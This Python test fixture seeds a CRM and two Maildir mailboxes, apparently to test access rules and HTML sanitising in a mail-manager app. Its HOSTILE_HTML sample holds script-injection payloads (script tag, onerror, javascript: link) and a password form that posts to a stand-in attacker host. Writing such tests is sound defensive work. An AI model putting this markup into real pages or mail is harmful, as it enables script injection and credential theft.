"""A small team and its client mail, synced through the real engine: for the access rules.

Alice and Bob are salespeople, both managed by Carol; Dave is an admin. Alice and Bob each
have a mailbox (a Maildir read by the maildir connector). Jane Doe of Acme writes to both:

- "Devis portes" (Alice's mailbox): HTML with a script, an onerror handler, a remote
  tracking image, an inline (cid:) logo, and a PDF attachment; Alice answers;
- "Catalogue 2027" (Bob's mailbox): text with a confidential line and an attachment;
- "Salon" (copied to both mailboxes): Jane writes to Alice and Bob;
- "Perso" (Alice's mailbox): a friend, no client: on no record.

Jane takes part in two open opportunities, so her threads wait in the review queue.
"""

from __future__ import annotations

import mailbox
import textwrap
from dataclasses import dataclass
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import format_datetime
from pathlib import Path

import sqlalchemy as sa
from sqlalchemy.orm import Session, sessionmaker

from mailmanager import config
from mailmanager.db import models
from mailmanager.services import access
from mailmanager.sync import engine as sync
from tests.mailgen import day, make

ALICE, BOB, CAROL, DAVE = (f"{n}@example.com" for n in ("alice", "bob", "carol", "dave"))
JANE = "Jane Doe <jane@acme.fr>"
SECRET = "Prix confidentiel: 41 250 EUR"  # in Bob's mail only
HOSTILE_HTML = """<html><head><style>body{background:url(https://evil.example/bg)}</style>
<script>alert('x')</script></head><body>
<p onclick="steal()">Bonjour Alice,</p>
<p>Voici notre devis. <img src="https://tracker.example/open.gif" alt="pixel"></p>
<p><img src="cid:logo@acme.fr" alt="Acme logo"></p>
<img src="x" onerror="alert(1)"><a href="javascript:alert(2)">clic</a>
<form action="https://evil.example/"><input name="pw"></form>
</body></html>"""
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


def html_mail() -> bytes:
    m = EmailMessage(policy=SMTP)
    m["From"], m["To"], m["Subject"] = JANE, f"Alice Martin <{ALICE}>", "Devis portes"
    m["Date"], m["Message-ID"] = format_datetime(day(0)), "<a1@acme.fr>"
    m.set_content("Bonjour Alice,\nVoici notre devis.\n")
    m.add_alternative(HOSTILE_HTML, subtype="html")
    html_part = m.get_payload()[1]
    assert isinstance(html_part, EmailMessage)
    html_part.add_related(PNG, "image", "png", cid="<logo@acme.fr>")
    m.add_attachment(b"%PDF-1.4 devis", maintype="application", subtype="pdf",
                     filename="devis.pdf")  # fmt: skip
    return m.as_bytes()


def bob_mail() -> bytes:
    m = EmailMessage(policy=SMTP)
    m["From"], m["To"], m["Subject"] = JANE, f"Bob Smith <{BOB}>", "Catalogue 2027"
    m["Date"], m["Message-ID"] = format_datetime(day(2)), "<b1@acme.fr>"
    m.set_content(f"Bonjour Bob,\n{SECRET}\n")
    m.add_attachment(b"secret catalogue", maintype="application", subtype="octet-stream",
                     filename="catalogue.bin")  # fmt: skip
    return m.as_bytes()


def config_text(db_url: str, maildirs: Path, visibility: str = "metadata") -> str:
    users = "".join(
        f'[[users]]\nemail = "{email}"\nname = "{name}"\nrole = "{role}"\n{extra}\n'
        for email, name, role, extra in (
            (ALICE, "Alice Martin", "salesperson", f'manager = "{CAROL}"\nlocale = "fr"'),
            (BOB, "Bob Smith", "salesperson", f'manager = "{CAROL}"'),
            (CAROL, "Carol Chef", "manager", ""),
            (DAVE, "Dave Admin", "admin", ""),
        )
    )
    boxes = "".join(
        f'[[mailboxes]]\nname = "{who}-inbox"\nconnector = "maildir"\n'
        f'path = "{maildirs / who}"\nowner = "{who}@example.com"\n\n'
        for who in ("alice", "bob")
    )
    return (
        textwrap.dedent(
            f"""\
        [database]
        url = "{db_url}"
        [organization]
        domains = ["example.com"]
        [web]
        visibility = "{visibility}"
        [sync]
        parse_workers = 0

        """
        )
        + users
        + boxes
    )


@dataclass
class World:
    cfg: config.Config
    factory: sessionmaker[Session]
    path: Path
    ids: dict[str, int]  # "acme", "jane", "opp1", "opp2"; msg:<Message-ID>; thread:<Message-ID>

    def viewer(self, email: str) -> access.Viewer:
        v = access.viewer_for(self.cfg, email)
        assert v is not None
        return v

    def with_visibility(self, visibility: str) -> World:
        text = self.path.read_text().replace(
            f'visibility = "{self.cfg.web.visibility}"', f'visibility = "{visibility}"'
        )
        path = self.path.with_name(f"{visibility}.toml")
        path.write_text(text)
        return World(config.load(path), self.factory, path, self.ids)


def _crm(s: Session) -> dict[str, int]:
    acme = models.Company(name="Acme")
    s.add(acme)
    s.flush()
    s.add(models.CompanyDomain(company_id=acme.id, domain="acme.fr"))
    jane = models.Contact(first_name="Jane", last_name="Doe", company_id=acme.id)
    s.add(jane)
    s.flush()
    s.add(models.ContactEmail(contact_id=jane.id, email="jane@acme.fr", display="jane@acme.fr"))
    ids = {"acme": acme.id, "jane": jane.id}
    for ref in ("OPP-1", "OPP-2"):
        o = models.Opportunity(reference=ref, title=f"Portes {ref}", company_id=acme.id,
                               created_at=day(-90))  # fmt: skip
        s.add(o)
        s.flush()
        s.add(models.OpportunityContact(opportunity_id=o.id, contact_id=jane.id))
        ids[ref.lower().replace("-", "")] = o.id
    return ids


def build(tmp_path: Path, db_url: str, factory: sessionmaker[Session]) -> World:
    """Seed the CRM, fill both mailboxes and sync them."""
    path = tmp_path / "mm.toml"
    (tmp_path / "mail").mkdir()
    path.write_text(config_text(db_url, tmp_path / "mail"))
    cfg = config.load(path)
    alice = mailbox.Maildir(tmp_path / "mail" / "alice", create=True)
    bob = mailbox.Maildir(tmp_path / "mail" / "bob", create=True)
    alice.add(html_mail())
    alice.add(make(f"Alice Martin <{ALICE}>", JANE, "RE: Devis portes",
                              body="Merci Jane.\n", msgid="a2@example.com",
                              reply_to="a1@acme.fr", at=day(1)))  # fmt: skip
    alice.add(make("Max <max@friends.example>", ALICE, "Perso",
                               body="Diner samedi ?\n", msgid="p1@friends.example",
                               at=day(1)))  # fmt: skip
    bob.add(bob_mail())
    salon = make(JANE, [ALICE, BOB], "Salon", body="Rendez-vous au salon.\n",
                 msgid="s1@acme.fr", at=day(3))  # fmt: skip
    alice.add(salon)
    bob.add(salon)
    with factory.begin() as s:
        ids = _crm(s)
    for box in ("alice-inbox", "bob-inbox"):
        report = sync.Syncer(cfg, factory).sync(box)
        assert report.status == "ok", report.error
    with factory() as s:
        for mid, msg_id, thread_id in s.execute(
            sa.select(models.Message.message_id, models.Message.id, models.Message.thread_id)
        ):
            ids[f"msg:{mid}"] = msg_id
            ids[f"thread:{mid}"] = thread_id or 0
    return World(cfg, factory, path, ids)
